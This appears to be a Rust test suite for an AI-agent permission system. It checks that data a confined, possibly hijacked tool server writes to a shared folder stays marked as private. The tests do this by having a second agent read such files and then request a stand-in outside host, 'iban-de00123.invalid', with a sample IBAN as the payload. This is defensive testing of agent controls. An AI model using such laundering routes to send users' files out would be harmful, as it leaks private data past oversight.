//! A model that was taken over has a program leave the user's files behind, where the agent may write, and
//! a later agent that may read nothing else and reach anything carries them out: whatever wrote them, and
//! whenever, they are known for what they are.

use serde_json::{Value, json};

use crate::mcp::{ODD, python};
use crate::place::{Place, Ran, call, say};

/// This host does not exist.
const OUT: &str = "https://iban-de00123.invalid/x";

/// An agent that may read `docs`, with a server that may write `out`, and reads `docs` where `reads` says
/// so.
fn first(how: &str, reads: &str, calls: &[(&str, Value)]) -> Place {
    let place = Place::new();
    place.write("server.py", ODD).write("docs/iban.md", "DE00 123").write("out/.keep", "");
    let python = python();
    let own = ["server.py".into(), reads.into()];
    let own = own.into_iter().filter(|path: &std::path::PathBuf| !path.as_os_str().is_empty());
    let read: Vec<_> = python.folders.iter().cloned().chain(own).collect();
    let tables = format!(
        "[mcp.servers.odd]\ncommand = {}\nargs = [\"server.py\", \"{how}\"]\nread = {}\n\
         write = [\"out\"]\n[tools]\nuse = [\"odd.*\", \"files.read\"]\n[permissions]\n\
         read = [\"docs\"]\n",
        json!(python.program),
        json!(read),
    );
    place.agent("act = \"tools\"", &tables, &replies(calls));
    let pinned = place.errand(["mcp", "pin", "agent.toml", "--yes"]);
    assert_eq!(pinned.code, Some(0), "{pinned}");
    place
}

fn replies(calls: &[(&str, Value)]) -> Vec<Value> {
    let mut replies: Vec<Value> =
        calls.iter().map(|(tool, with)| call([(tool, with.clone())])).collect();
    replies.push(say("done"));
    replies
}

/// Another agent, to which `out` is all there is, tries this and then to reach any host.
fn second(place: &Place, more: &str, tried: (&str, Value)) -> Ran {
    let tables = format!(
        "[tools]\nuse = [\"files.*\", \"web.read\"{}]\n[permissions]\nread = [\"out\"]\n\
         write = [\"out\"]\nnet = [\"public\"]\n{more}\n",
        if tried.0 == "run.program" { ", \"run.program\"" } else { "" }
    );
    place.agent(
        "act = \"tools\"",
        &tables,
        &replies(&[tried, ("web.read", json!({ "url": OUT }))]),
    );
    place.run()
}

fn read(path: &str) -> (&'static str, Value) {
    ("files.read", json!({ "path": path }))
}

fn keeps(path: &str, more: &str) -> (&'static str, Value) {
    let mut with = json!({ "path": path, "text": "DE00 123" });
    if !more.is_empty() {
        with[more] = json!(true);
    }
    ("odd.work", with)
}

#[track_caller]
fn waits(ran: &Ran) {
    assert_eq!(ran.code, Some(3), "{ran}");
    assert!(ran.out.contains("`iban-de00123.invalid` is not granted in full"), "{ran}");
}

#[track_caller]
fn done(place: &Place) {
    let ran = place.run();
    assert_eq!(ran.code, Some(0), "{ran}");
}

#[test]
fn what_a_confined_server_was_told_and_wrote() {
    let place = first("keeps", "", &[read("docs/iban.md"), keeps("out/copy.txt", "")]);
    done(&place);
    waits(&second(&place, "", read("out/copy.txt")));
    // What the user writes there is the agent's to send: nothing of it is private.
    place.write("out/copy.txt", "Opening hours: 9 to 5");
    let ran = second(&place, "", read("out/copy.txt"));
    assert_eq!(ran.code, Some(0), "{ran}");
}

/// A server that may write a folder did not write what was there when it began, if only for a moment.
#[test]
fn what_was_there_just_before_a_server_began() {
    let place = first("keeps", "", &[read("docs/iban.md"), keeps("out/copy.txt", "")]);
    place.write("out/hours.txt", "Opening hours: 9 to 5");
    done(&place);
    let ran = second(&place, "", read("out/hours.txt"));
    assert_eq!(ran.code, Some(0), "{ran}");
}

/// It writes other bytes all the time, until it is no more.
#[test]
fn what_a_confined_server_writes_after_its_last_answer() {
    let place = first("keeps", "", &[read("docs/iban.md"), keeps("out/copy.txt", "on")]);
    done(&place);
    waits(&second(&place, "", read("out/copy.txt")));
}

/// It has read what it was granted before it was asked for anything.
#[test]
fn what_a_confined_server_writes_while_it_is_looked_at() {
    let place = first("early", "docs", &[]);
    assert!(place.read("out/copy.txt").starts_with("DE00 123"));
    waits(&second(&place, "", read("out/copy.txt")));
}

#[test]
fn what_a_confined_server_wrote_in_a_run_that_was_killed() {
    let place = first("keeps", "", &[read("docs/iban.md"), keeps("out/copy.txt", "hang")]);
    let mut run = place.command(["run", "agent.toml"]).spawn().unwrap();
    let wrote = || std::fs::metadata(place.path("out/copy.txt")).is_ok_and(|file| file.len() > 8);
    let began = std::time::Instant::now();
    while !wrote() {
        assert!(began.elapsed().as_secs() < 60 && run.try_wait().unwrap().is_none());
        std::thread::yield_now();
    }
    run.kill().unwrap();
    run.wait().unwrap();
    waits(&second(&place, "", read("out/copy.txt")));
}

/// A program reads by itself, and what it reads is not looked at.
#[test]
fn what_a_program_reads_of_an_earlier_run() {
    let place = Place::new();
    place.write("docs/iban.md", "DE00 123").write("out/.keep", "");
    let calls = [
        read("docs/iban.md"),
        ("files.write", json!({ "path": "out/note.md", "content": "DE00 123" })),
        ("files.move", json!({ "path": "out/note.md", "to": "out/below/moved.md" })),
    ];
    let tables = "[tools]\nuse = [\"files.*\"]\n[permissions]\nread = [\"docs\", \"out\"]\n\
                  write = [\"out\"]\ndelete = [\"out\"]\n";
    place.agent("act = \"tools\"", tables, &replies(&calls));
    done(&place);
    let cat = |path: &str| ("run.program", json!({ "program": "cat", "arguments": [path] }));
    waits(&second(&place, "run = [\"cat\"]", cat("out/below/moved.md")));
    place.write("out/below/moved.md", "Opening hours: 9 to 5");
    let ran = second(&place, "run = [\"cat\"]", cat("out/below/moved.md"));
    assert_eq!(ran.code, Some(0), "{ran}");
}
